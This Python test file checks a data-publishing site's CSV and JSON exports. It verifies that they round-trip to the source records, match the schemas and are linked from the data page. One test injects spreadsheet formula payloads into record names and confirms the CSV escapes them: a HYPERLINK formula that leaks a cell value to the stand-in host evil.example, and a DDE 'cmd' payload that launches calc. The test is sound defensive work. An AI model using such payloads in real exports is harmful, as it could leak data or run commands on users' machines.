"""Open data (issue 5): the CSV and JSON downloads round-trip to the very records the site shows."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from conftest import ROOT
from ridsite.model.kinds import all_json_schemas
from ridsite.records.load import load_corpus
from ridsite.render import opendata

SITE_URL = "http://127.0.0.1:8000/"


@pytest.fixture(scope="module")
def made(corpus):
    return opendata.files(corpus, SITE_URL)


def read_csv(text: str) -> list[dict]:
    assert text.startswith("\ufeff")  # for spreadsheet programs
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_json_round_trips_to_the_same_records(corpus, made):
    data = json.loads(made["data/rid-records.json"])
    for kind in ("documents", "actors", "positions", "proposals", "events"):
        records = getattr(corpus, kind)
        assert {r["id"]: r for r in data[kind]} == records, kind
        assert [r["id"] for r in data[kind]] == sorted(records)
    vocabularies = data["vocabularies"]
    assert vocabularies["criteria"] == corpus.criteria
    assert vocabularies["not_stated"] == corpus.not_stated
    assert vocabularies["objectives"] == corpus.objectives
    assert vocabularies["regional_groups"] == corpus.regional_groups


def test_positions_csv_round_trips_to_the_same_positions(corpus, made):
    rows = read_csv(made["data/rid-positions.csv"])
    assert list(rows[0]) == list(opendata.POSITION_COLUMNS)
    rebuilt: dict[str, dict] = {}
    for row in rows:
        pos = rebuilt.setdefault(
            row["position_id"],
            {
                "id": row["position_id"],
                "actors": [],
                "date": row["date"],
                "quote": row["quote"],
                "source": {"document": row["source_document"], "paragraph": row["source_paragraph"]},
                "stances": {},
            },
        )
        if row["actor_id"] not in pos["actors"]:
            pos["actors"].append(row["actor_id"])
        pos["stances"][row["criterion"]] = row["stance"]
        if row["event"]:
            pos["event"] = row["event"]
        # Each row names its source and the site's page, so a reader can check it.
        assert row["position_url"] == f"{SITE_URL}positions/{row['position_id']}/"
        assert row["paragraph_url"].startswith(f"{SITE_URL}documents/{row['source_document']}/")
    fields = ("id", "actors", "date", "quote", "source", "stances", "event")
    expected = {p["id"]: {k: p[k] for k in fields if k in p} for p in corpus.positions.values()}
    assert rebuilt == expected
    assert len(rows) == sum(len(p["actors"]) for p in corpus.positions.values()) * len(corpus.criteria)


def test_proposals_csv_round_trips_to_the_same_proposals(corpus, made):
    rows = read_csv(made["data/rid-proposals.csv"])
    rebuilt: dict[str, dict] = {}
    for row in rows:
        prop = rebuilt.setdefault(
            row["proposal_id"],
            {
                "id": row["proposal_id"],
                "proponents": row["proponents"].split(),
                "date": row["date"],
                "quote": row["quote"],
                "source": {"document": row["source_document"], "paragraph": row["source_paragraph"]},
                "stances": {},
            },
        )
        prop["stances"][row["criterion"]] = row["stance"]
    fields = ("id", "proponents", "date", "quote", "source", "stances")
    assert rebuilt == {p["id"]: {k: p[k] for k in fields} for p in corpus.proposals.values()}


def test_schemas_are_the_models_and_match_the_committed_ones(made):
    for name, schema in all_json_schemas().items():
        assert json.loads(made[f"data/schemas/{name}"]) == schema
        assert json.loads((ROOT / "schemas" / name).read_text(encoding="utf-8")) == schema, f"run: rid schema ({name})"


@pytest.mark.parametrize("lang", ["en", "fr", "ar"])
def test_data_page_links_to_the_files_the_build_wrote(built, lang):
    project, site, _ = built
    files = opendata.files(load_corpus(project / "data"), SITE_URL)
    root = site if lang == "en" else site / lang
    html = (root / "data/index.html").read_text(encoding="utf-8")
    # The files are shared by every language, at the site root (not copied under /fr/).
    prefix = "" if lang == "en" else "../../data/"
    for name in ("rid-records.json", "rid-positions.csv", "rid-proposals.csv", "schemas/position.schema.json"):
        assert f'href="{prefix}{name}"' in html, name
        # The downloads are the build's own output from the records, byte for byte.
        assert (site / "data" / name).read_bytes() == files[f"data/{name}"].encode("utf-8")


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Egypt")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
    "\tx",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(data_copy, formula):
    actor = data_copy / "actors" / "egy.yml"
    actor.write_text(
        actor.read_text(encoding="utf-8").replace('en: "Egypt"', f"en: {json.dumps(formula)}"), encoding="utf-8"
    )
    proposal = data_copy / "proposals" / "egypt-platform.yml"
    # The English title, whatever it says today (the line under "title:" and its comments).
    text = re.sub(
        r"(?m)^(title:\n(?:  #.*\n)*)  en: .*$",
        lambda m: m.group(1) + f"  en: {json.dumps(formula)}",
        proposal.read_text(encoding="utf-8"),
        count=1,
    )
    proposal.write_text(text, encoding="utf-8")
    corpus = load_corpus(data_copy)
    made = opendata.files(corpus, SITE_URL)
    names = {r["actor_name"] for r in read_csv(made["data/rid-positions.csv"]) if r["actor_id"] == "egy"}
    titles = {r["title"] for r in read_csv(made["data/rid-proposals.csv"]) if r["proposal_id"] == "egypt-platform"}
    assert names == titles == {"'" + formula}
    # No cell of either file starts with a formula sign; the JSON keeps the value as recorded.
    for name in ("data/rid-positions.csv", "data/rid-proposals.csv"):
        cells = [cell for row in read_csv(made[name]) for cell in row.values()]
        assert not [c for c in cells if c and c[0] in "=+-@\t\r"]
    assert (
        json.loads(made["data/rid-records.json"])["actors"][
            [a["id"] for a in json.loads(made["data/rid-records.json"])["actors"]].index("egy")
        ]["name"]["en"]
        == formula
    )
